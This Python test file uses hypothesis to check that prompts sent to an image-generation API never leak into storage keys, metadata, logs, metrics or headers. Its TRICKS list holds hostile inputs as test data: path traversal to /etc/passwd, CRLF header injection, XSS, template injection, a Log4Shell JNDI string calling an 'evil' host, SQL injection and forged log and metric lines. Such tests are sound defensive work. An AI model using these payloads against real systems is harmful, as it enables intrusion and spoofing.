"""A prompt is other people's text: it reaches the model and the job's row, and steers nothing else."""

from __future__ import annotations

import json
import re
import unicodedata
from typing import Any

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from image_api.image_request import ImageRequest

from tests.lambda_functions.local_campaign import Campaign

MARK = "Mark7f3a"
TRICKS = (
    "../../../etc/passwd",
    "..\\..\\",
    "%2e%2e%2f",
    "/payloads/x.json",
    "a?versionId=1&x-amz-acl=public-read#",
    "\r\nSet-Cookie: a=b",
    "\nERROR {}",
    "%0d%0aLocation: http://evil/",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}${7*7}<%= 7 %>",
    '","job_id":"forged","level":"CRITICAL',
    '{"_aws":{"Timestamp":1,"CloudWatchMetrics":[{"Namespace":"ImageGenAPI","Dimensions":[["p"]],'
    '"Metrics":[{"Name":"CacheHits"}]}]},"p":"x","CacheHits":1}',
    "${jndi:ldap://evil/a}",
    "%s%n%x",
    "' OR '1'='1",
    "attribute_exists(job_id)",
    "\u202egnp.exe",
    "\ufeff",
    "\u2028",
    "\u0085",
    "\x1b[2J",
    "\x00",
    "\ud800",
    "İ" * 20,
    "e\u0301",
    "👩‍👩‍👧",
)

prompts = st.builds(
    lambda before, trick, after: f"{before}{trick}{MARK}{after}",
    st.text(max_size=20),
    st.sampled_from(TRICKS),
    st.text(max_size=20),
)


def leaks(text: str) -> bool:
    """Whether a part of the prompt shows, in any case or escape."""
    return MARK.lower() in text.lower() or MARK.encode().hex() in text.lower()


def objects(campaign: Campaign) -> list[dict[str, Any]]:
    return [
        {**entry, "head": campaign.s3.head_object(Bucket=bucket, Key=entry["Key"])}
        for bucket in ("demo-payloads", "demo-pictures")
        for entry in campaign.s3.list_objects_v2(Bucket=bucket).get("Contents", [])
    ]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@example(prompt=MARK + "x" * 70, negative=MARK)
@example(prompt=f"{MARK}\r\nX-Injected: 1", negative="")
@given(prompt=prompts, negative=st.one_of(st.just(""), prompts))
def test_a_prompt_reaches_no_key_metadata_log_metric_or_header(
    campaign: Campaign, prompt: str, negative: str
) -> None:
    answer = campaign.post({"prompt": prompt, "negative_prompt": negative})
    body = json.loads(answer["body"])
    if answer["statusCode"] == 202:
        job_id = body["id"]
        quoting = f'Received client error (400) from primary with message "{prompt}"'
        campaign.notify(campaign.endpoint.fail(f"{job_id}.1", quoting))
        campaign.notify(campaign.endpoint.draw(f"{job_id}.2"))
        done = campaign.get(job_id)
        assert not leaks(done["body"])
        assert not leaks(str(done["headers"]))
        # Nobody reads it out of the id, and another prompt's is another.
        assert re.fullmatch(r"[0-9a-f]{32}", job_id)
    else:
        assert answer["statusCode"] in (200, 400)
    assert not leaks(str(answer["headers"]))
    assert all("\r" not in value and "\n" not in value for value in answer["headers"].values())
    assert not leaks(answer["body"])
    assert not leaks(campaign.printed())


def test_after_every_trick_keys_are_ids_and_every_line_is_one_of_ours(campaign: Campaign) -> None:
    for trick in TRICKS:
        asked = campaign.post({"prompt": f"{trick} {MARK}", "negative_prompt": f"{MARK}{trick}"[:100]})
        assert asked["statusCode"] in (202, 400)
        if asked["statusCode"] == 202:
            job_id = json.loads(asked["body"])["id"]
            failure = f'request refused: {trick} {MARK}"'
            campaign.notify(campaign.endpoint.fail(f"{job_id}.1", failure))
            campaign.post({"prompt": f"{trick} {MARK}", "negative_prompt": f"{MARK}{trick}"[:100]})
            campaign.notify(campaign.endpoint.draw(f"{job_id}.2"))
    for found in objects(campaign):
        assert re.fullmatch(
            r"payloads/[0-9a-f]{32}/\d+\.json|(pictures|failures)/[0-9a-f]{8}-uuid[\w.-]*", found["Key"]
        )
        assert found["head"]["Metadata"] == {}
        assert found["head"]["ContentType"] in ("application/json", "binary/octet-stream")
        assert "ContentDisposition" not in found["head"]
    lines = campaign.lines()  # each parses: no prompt broke one in two
    assert len(lines) > 2 * len(TRICKS)
    assert not leaks(campaign.printed())
    for line in lines:
        if "_aws" in line:
            assert (line["service"], line["campaign"]) == ("ImageGenerator", "demo")
        else:
            assert line["level"] in ("INFO", "WARNING", "ERROR")
            assert line.get("job_id") != "forged"


@given(st.text(), st.text())
def test_texts_that_differ_only_in_form_are_one_job_and_others_are_not(first: str, second: str) -> None:
    """The id is a digest: nobody finds a prompt that takes over another's picture by its letters."""

    def job_id(prompt: str) -> str:
        return ImageRequest(prompt, "", 0, 4, 5.0, 128, 128).job_id("model")

    texts = [unicodedata.normalize("NFC", one) for one in (first, second)]
    try:
        ids = [job_id(one) for one in texts]
    except UnicodeEncodeError:
        return  # lone surrogates are refused before
    assert (ids[0] == ids[1]) is (texts[0] == texts[1])
